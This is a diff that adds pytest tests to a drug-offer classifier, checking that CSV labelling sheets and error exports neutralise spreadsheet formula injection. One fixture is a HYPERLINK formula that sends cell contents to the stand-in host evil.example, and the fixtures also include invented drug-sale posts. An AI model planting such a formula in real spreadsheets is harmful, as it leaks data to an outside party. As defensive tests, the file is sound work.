@@ -161,3 +161,66 @@ def test_a_broken_config_file_is_one_line(tmp_path: Path, monkeypatch: pytest.Mo
     monkeypatch.setenv("PILLSCAN_CONFIG", str(tmp_path / "c.json"))
     with pytest.raises(InputError, match="is not valid JSON"):
         active_model()
+
+
+# --- spreadsheet formulas: neutralised in every CSV written for labelling, read back as the original text ---------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"oxy 30s, snap me")',
+    "+1 555 0100 xanax bars in stock, dm",
+    "-30 for blues today, telegram @plug",
+    "@plug percs m30 ready, cashapp",
+    "\tadderall 30mg, ships discreet",
+    "'=already marked? percs for sale",  # a post that itself starts with the marker and a formula character
+    "''double quote mark, not an offer",
+    "'tis the season, not an offer",  # an apostrophe before an ordinary letter is left alone
+]
+
+
+def test_the_spreadsheet_marker_round_trips_and_leaves_nothing_a_spreadsheet_runs() -> None:
+    import itertools
+
+    from pillscan.textsafe import FORMULA_START, spreadsheet_cell, spreadsheet_text
+
+    alphabet = [*FORMULA_START, "'", "a", "1", " "]
+    for k in range(5):
+        for chars in itertools.product(alphabet, repeat=k):
+            text = "".join(chars)
+            cell = spreadsheet_cell(text)
+            assert spreadsheet_text(cell) == text
+            assert not str(cell).startswith(FORMULA_START)
+    assert spreadsheet_cell(3.5) == 3.5 and spreadsheet_text(None) is None
+
+
+def test_a_label_sheet_is_inert_in_a_spreadsheet_and_reads_back_as_written(tmp_path: Path) -> None:
+    from pillscan.sample import write_label_sheet
+
+    chosen = pd.DataFrame(
+        {"text": FORMULAS, "score": 0.5, "id": [f"=id{i}" for i in range(len(FORMULAS))], "why": "near"}
+    )
+    sheet = tmp_path / "sheet.csv"
+    write_label_sheet(chosen, str(sheet))
+    import csv
+
+    with sheet.open(newline="", encoding="utf-8") as fh:
+        raw = list(csv.DictReader(fh))
+    assert all(not r["text"].startswith(("=", "+", "-", "@", "\t")) for r in raw)
+    assert raw[0]["text"] == "'" + FORMULAS[0] and raw[0]["id"] == "'=id0"
+    assert raw[-1]["text"] == FORMULAS[-1]  # not a formula: unchanged
+    # The analyst fills in the label column (a -1 typed as such is marked too, and still reads as -1).
+    filled = pd.read_csv(sheet, dtype=str, keep_default_na=False)
+    filled["label"] = ["offer", "offer", "'-1", "offer", "offer", "offer", "not_offer", "not_offer"]
+    filled.to_csv(sheet, index=False)
+    labels = read_labels(sheet)
+    assert list(labels.frame["text"]) == FORMULAS
+    assert list(labels.frame["id"])[:2] == ["=id0", "=id1"] and list(labels.frame["label"])[:3] == [1, 1, -1]
+
+
+def test_evaluate_errors_out_is_inert_in_a_spreadsheet(tmp_path: Path) -> None:
+    path = _csv(tmp_path / "l.csv", [(FORMULAS[0], "not_offer"), (FORMULAS[1], "offer"), ("-ready", "clean")])
+    errors = tmp_path / "errors.csv"
+    args = ["evaluate", str(path), "--model", str(DEFAULT_MODEL), "--threshold", "0", "--errors-out", str(errors)]
+    result = CliRunner().invoke(cli, args)
+    assert result.exit_code == 0, result.output
+    listed = pd.read_csv(errors, dtype=str, keep_default_na=False)
+    assert set(listed["text"]) == {"'" + FORMULAS[0], "'-ready"}
